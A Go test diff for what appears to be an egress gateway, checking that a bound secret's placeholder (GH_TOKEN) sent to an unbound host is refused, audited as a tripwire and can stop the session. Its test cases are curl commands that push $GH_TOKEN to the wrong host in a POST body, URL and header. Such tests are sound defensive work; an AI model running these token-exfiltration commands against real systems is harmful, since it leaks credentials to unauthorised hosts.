@@ -353,3 +353,86 @@ func TestLinuxGitOverSSH(t *testing.T) {
 		t.Errorf("git clone over ssh: %q %q\nsshd: %s", out, errOut, dlog.String())
 	}
 }
+
+// TestLinuxTripwire: a bound secret's placeholder headed for a host the
+// secret is not bound to (in a header, the URL or the body) is refused
+// and audited as a tripwire naming the secret and the host; with
+// --tripwire-action stop the session is stopped too.
+func TestLinuxTripwire(t *testing.T) {
+	requireLinuxDriver(t)
+	ssh := gwtest.RequireTool(t, "ssh")
+	gwtest.RequireTool(t, "curl")
+	f := newEgressFixture(t)
+	hp, tp := ":"+f.httpPort, ":"+f.tlsPort
+	body := map[string]any{
+		"egress":  []string{"pypi.test" + hp, "secret.test" + tp},
+		"secrets": []any{map[string]any{"name": "GH_TOKEN", "hosts": []string{"secret.test" + tp}}},
+	}
+	for _, action := range []string{"block", "stop"} {
+		t.Run(action, func(t *testing.T) {
+			g := startGateway(t, append(f.args, "--tripwire-action", action)...)
+			var s egressSession
+			if code := g.api(t, http.MethodPost, "/v1/sessions", body, &s); code != http.StatusCreated {
+				t.Fatalf("create: %d", code)
+			}
+			run := func(cmd string) string {
+				t.Helper()
+				out, errOut, _ := runClient(t, g.clientEnv(), nil, ssh, append(g.sshOpts(t, s.sessionJSON), s.SessionID, cmd)...)
+				return out + errOut
+			}
+			curl := "curl -sS --max-time 20 "
+			if out := run(curl + "https://secret.test" + tp + "/auth"); out != "authorized\n" {
+				t.Fatalf("the secret's own host: %q", out)
+			}
+			const tripped = "denied: tripwire: the placeholder of secret GH_TOKEN"
+			cases := []struct{ cmd, want string }{
+				{curl + `-d "token=$GH_TOKEN" http://pypi.test` + hp + "/echo-auth", tripped},
+				{curl + `"http://pypi.test` + hp + `/echo-auth?t=$GH_TOKEN"`, tripped},
+				// Without the proxy variables: the connection is cut.
+				{curl + `-H "X-Token: $GH_TOKEN" --noproxy '*' http://pypi.test` + hp + "/echo-auth", "curl: (52) Empty reply from server"},
+			}
+			if action == "stop" {
+				cases = cases[:1]
+			}
+			for _, c := range cases {
+				// Stopping may cut the SSH channel before the answer.
+				if out := run(c.cmd); action == "block" && !strings.Contains(out, c.want) {
+					t.Errorf("%s: %q, want %q", c.cmd, out, c.want)
+				}
+			}
+			var page struct {
+				Events []struct {
+					Kind, Result, Secret, Host, Session string
+				} `json:"events"`
+			}
+			found := false
+			for i := 0; i < 100 && !found; i++ {
+				g.api(t, http.MethodGet, "/v1/audit?limit=1000&session="+s.SessionID, nil, &page)
+				for _, e := range page.Events {
+					if e.Kind == "egress" && e.Result == "tripwire" && e.Secret == "GH_TOKEN" && e.Host == "pypi.test" {
+						found = true
+					}
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+			if !found {
+				t.Errorf("no tripwire event in the audit: %+v", page.Events)
+			}
+			var got struct {
+				Status string `json:"status"`
+			}
+			status := ""
+			for i := 0; i < 200; i++ {
+				g.api(t, http.MethodGet, "/v1/sessions/"+s.SessionID, nil, &got)
+				if status = got.Status; status == "stopped" || action == "block" {
+					break
+				}
+				time.Sleep(50 * time.Millisecond)
+			}
+			want := map[string]string{"block": "running", "stop": "stopped"}[action]
+			if status != want {
+				t.Errorf("after the tripwire the session is %q, want %q", status, want)
+			}
+		})
+	}
+}
